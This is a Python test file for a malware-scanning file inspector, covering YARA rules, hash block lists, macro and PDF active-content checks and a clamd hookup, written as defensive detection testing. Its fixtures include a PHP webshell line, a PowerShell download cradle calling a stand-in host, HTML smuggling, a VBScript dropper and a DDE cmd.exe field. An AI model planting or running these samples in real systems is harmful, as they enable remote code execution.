"""Files, by signatures, lists of hashes, active content and clamd; each with a look-alike that is fine."""

import base64
import hashlib
import random
from pathlib import Path

import pytest

import casemate.inspection
from casemate.inspection.extract.kinds import Kinds
from casemate.inspection.inspectors.files import FilesInspector, FilesOptions
from casemate.model.errors import ConfigurationError
from casemate.model.inspection import GapKind
from casemate.wiring.health import EICAR
from tests.clamd import clamd
from tests.inspection.files.support import ELF, gaps, ids, look, zipped

BLOB = base64.b64encode(random.Random(3).randbytes(3_000)).decode()
SMUGGLE = "<html><script>const b = new Blob([Uint8Array.from(atob('{}'))]); {}; a.click()</script></html>"
LNK = b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(80)
RULES = {
    # Rule -> a sample that fits, one that looks like it and does not.
    "eicar_test_file": (EICAR, b"About " + EICAR),
    "powershell_download_cradle": (
        b"IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')",
        b"Get-Help powershell | Out-File help.txt; # no DownloadString here",
    ),
    "html_smuggling": (
        SMUGGLE.format(BLOB, "a.href = URL.createObjectURL(b)").encode(),
        SMUGGLE.format("aGVsbG8=", "a.href = URL.createObjectURL(b)").encode(),
    ),
    "php_webshell": (b"<?php system($_GET['c']); ?>", b"<?php echo htmlspecialchars($_GET['c']); ?>"),
    "shortcut_that_runs_a_shell": (
        LNK + "C:\\Windows\\powershell.exe".encode("utf-16-le"),
        LNK + "C:\\Users\\a\\notes.txt".encode("utf-16-le"),
    ),
    "script_dropper": (
        b"s=CreateObject('WScript.Shell') x=CreateObject('MSXML2.XMLHTTP') a=CreateObject('ADODB.Stream') a.SaveToFile f",
        b"s=CreateObject('WScript.Shell') a=CreateObject('ADODB.Stream') a.SaveToFile f",
    ),
    "macro_that_runs_a_program": (
        b'Sub AutoOpen()\nCreateObject("WScript.Shell").Run "calc"\nEnd Sub',
        b'Sub AutoOpen()\nMsgBox "Welcome"\nEnd Sub',
    ),
}


def test_every_rule_of_ours_has_its_samples() -> None:
    source = (Path(casemate.inspection.__file__).parent / "data" / "rules.yar").read_text()
    assert {line.split()[1] for line in source.splitlines() if line.startswith("rule ")} == set(RULES)


@pytest.mark.parametrize("rule", RULES)
async def test_signatures(files: FilesInspector, tmp_path: Path, rule: str) -> None:
    fits, does_not = RULES[rule]
    for data in (fits, zipped(("inner.txt", fits))):
        report = await look(files, tmp_path, "sample.txt", data)
        assert rule in {f.detail for f in report.findings if f.id == "files.yara"}
    assert "files.yara" not in ids(await look(files, tmp_path, "sample.txt", does_not))


async def test_signatures_of_the_organisation(tmp_path: Path) -> None:
    own = tmp_path / "own.yar"
    own.write_text('rule project_falcon { strings: $a = "Falcon-internal" condition: $a }')
    inspector = FilesInspector(FilesOptions(yara_rules=(str(own),)))
    await inspector.start()
    try:
        assert "files.yara" in ids(await look(inspector, tmp_path, "a.txt", b"This is Falcon-internal."))
        assert "files.yara" in ids(await look(inspector, tmp_path, "a.txt", EICAR))
        assert not ids(await look(inspector, tmp_path, "a.txt", b"The falcon is a bird of prey."))
    finally:
        await inspector.close()


@pytest.mark.parametrize(
    ("source", "reason"),
    [
        ("rule a { condition: foo }", "own.yar:1:21: unknown identifier `foo`"),
        ("rule b {", "own.yar:1:9: syntax error"),
        ("rule eicar_test_file { condition: true }", "own.yar:1:6: duplicate rule"),
    ],
)
def test_signatures_that_do_not_compile_are_refused_with_place_and_reason(
    tmp_path: Path, source: str, reason: str
) -> None:
    (tmp_path / "own.yar").write_text(source)
    with pytest.raises(ConfigurationError) as refused:
        FilesInspector(FilesOptions(yara_rules=(str(tmp_path / "own.yar"),)))
    assert reason in str(refused.value)
    assert "\n" not in str(refused.value)


@pytest.mark.parametrize("option", ["yara_rules", "block_sha256", "allow_sha256"])
def test_a_list_that_is_not_there_is_refused(tmp_path: Path, option: str) -> None:
    with pytest.raises(ConfigurationError, match=r"nothing\.txt"):
        FilesInspector(FilesOptions(**{option: (str(tmp_path / "nothing.txt"),)}))


def test_a_line_that_is_no_hash_is_refused_with_its_number(tmp_path: Path) -> None:
    (tmp_path / "list.txt").write_text(f"# mine\n{'a' * 64}  report.pdf\n{'z' * 64}\n")
    with pytest.raises(ConfigurationError, match=r"list\.txt:3: "):
        FilesInspector(FilesOptions(block_sha256=(str(tmp_path / "list.txt"),)))


async def test_lists_of_hashes_block_and_allow(tmp_path: Path) -> None:
    bad, tool = b"quarterly figures", ELF
    (tmp_path / "block.txt").write_text(hashlib.sha256(bad).hexdigest().upper() + "\n")
    (tmp_path / "allow.txt").write_text(hashlib.sha256(tool).hexdigest() + "  tool # ours\n")
    options = FilesOptions(block_sha256=(str(tmp_path / "block.txt"),), allow_sha256=(str(tmp_path / "allow.txt"),))
    inspector = FilesInspector(options)
    await inspector.start()
    try:
        assert ids(await look(inspector, tmp_path, "a.txt", bad)) == {"files.blocked_hash"}
        assert ids(await look(inspector, tmp_path, "a.zip", zipped(("a.txt", bad)))) == {"files.blocked_hash"}
        assert not ids(await look(inspector, tmp_path, "a.txt", bad + b".")) - {"files.type"}
        allowed = await look(inspector, tmp_path, "tool", tool)
        assert {f.id for f in allowed.findings} == {"files.type"}
        assert ids(await look(inspector, tmp_path, "tool", tool + b".")) == {"files.program"}
    finally:
        await inspector.close()


def document(*parts: tuple[str, bytes]) -> bytes:
    types = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    text = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'
    return zipped(
        ("[Content_Types].xml", types),
        ("_rels/.rels", b"<Relationships/>"),
        ("word/document.xml", text),
        ("word/styles.xml", b"<w:styles/>"),
        *parts,
    )


RELATION = b'<Relationship Type="http://x/%s" Target="http://a.example/t" TargetMode="External"/>'


@pytest.mark.parametrize(
    ("parts", "expected"),
    [
        ((), set()),
        ((("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(100)),), {"files.macro"}),
        ((("xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>"),), {"files.macro"}),
        ((("word/_rels/settings.xml.rels", RELATION % b"attachedTemplate"),), {"files.external"}),
        ((("word/_rels/document.xml.rels", RELATION % b"hyperlink"),), set()),
        ((("word/footer.xml", b"<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"),), {"files.external"}),
        ((("word/embeddings/tool.exe", b"MZ" + bytes(200)),), {"files.program"}),
        ((("setup.dat", ELF),), {"files.program", "files.disguised"}),
    ],
)
async def test_office_documents(
    files: FilesInspector, tmp_path: Path, parts: tuple[tuple[str, bytes], ...], expected: set[str]
) -> None:
    data = document(*parts)
    assert Kinds().recognise(memoryview(data))[0] in {"docx", "xlsx", "zip"}
    assert ids(await look(files, tmp_path, "letter.docx", data)) == expected


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


@pytest.mark.parametrize(
    ("name", "data", "found", "unseen"),
    [
        ("a.doc", OLE + "_VBA_PROJECT".encode("utf-16-le") + bytes(600), {"files.macro"}, set()),
        ("a.docx", OLE + "EncryptedPackage".encode("utf-16-le") + bytes(600), set(), {GapKind.ENCRYPTED}),
        ("a.pdf", b"%PDF-1.7\n1 0 obj << /JavaScript (app.alert(1)) >>\n%%EOF\n", {"files.active"}, set()),
        ("a.pdf", b"%PDF-1.7\n1 0 obj << /Launch >>\n%%EOF\n", {"files.active"}, set()),
        ("a.pdf", b"%PDF-1.7\ntrailer << /Encrypt 5 0 R >>\n%%EOF\n", set(), {GapKind.ENCRYPTED}),
        ("a.pdf", b"%PDF-1.7\n1 0 obj << /Type /Catalog >>\n", set(), {GapKind.MALFORMED}),
        ("a.pdf", b"%PDF-1.7\n1 0 obj << /Type /Catalog >>\n%%EOF\n", set(), set()),
        ("a.png", b"\x89PNG\r\n\x1a\n" + bytes(100), set(), {GapKind.MALFORMED}),
        ("a.jpg", b"\xff\xd8\xff\xe0" + bytes(100), set(), {GapKind.MALFORMED}),
        ("a.jpg", b"\xff\xd8\xff\xe0" + bytes(100) + b"\xff\xd9", set(), set()),
        ("a.jpg", b"This is no picture at all, it is a text.\n" * 5, set(), {GapKind.MALFORMED}),
    ],
)
async def test_documents_and_pictures(
    files: FilesInspector, tmp_path: Path, name: str, data: bytes, found: set[str], unseen: set[GapKind]
) -> None:
    report = await look(files, tmp_path, name, data)
    assert ids(report) == found
    assert gaps(report) == unseen


async def test_an_empty_file_is_nothing(files: FilesInspector, tmp_path: Path) -> None:
    report = await look(files, tmp_path, "empty.txt", b"")
    assert not ids(report)
    assert not report.gaps


async def test_clamd_beside_our_own_looks(tmp_path: Path) -> None:
    with clamd(tmp_path / "clamd") as (address, process):
        inspector = FilesInspector(FilesOptions(clamd=address))
        await inspector.start()
        try:
            report = await look(inspector, tmp_path, "a.txt", EICAR)
            assert {"files.malware", "files.yara"} <= ids(report)
            assert any("Casemate.Test.Eicar" in f.detail for f in report.findings)
            assert not ids(await look(inspector, tmp_path, "a.txt", b"hello there, nothing to see"))
            assert gaps(await look(inspector, tmp_path, "a.bin", random.Random(5).randbytes(3 << 20))) == {
                GapKind.TOO_LARGE
            }
            process.kill()
            process.wait()
            down = await look(inspector, tmp_path, "tool", ELF)
            assert gaps(down) == {GapKind.UNAVAILABLE}
            assert ids(down) == {"files.program"}
        finally:
            await inspector.close()
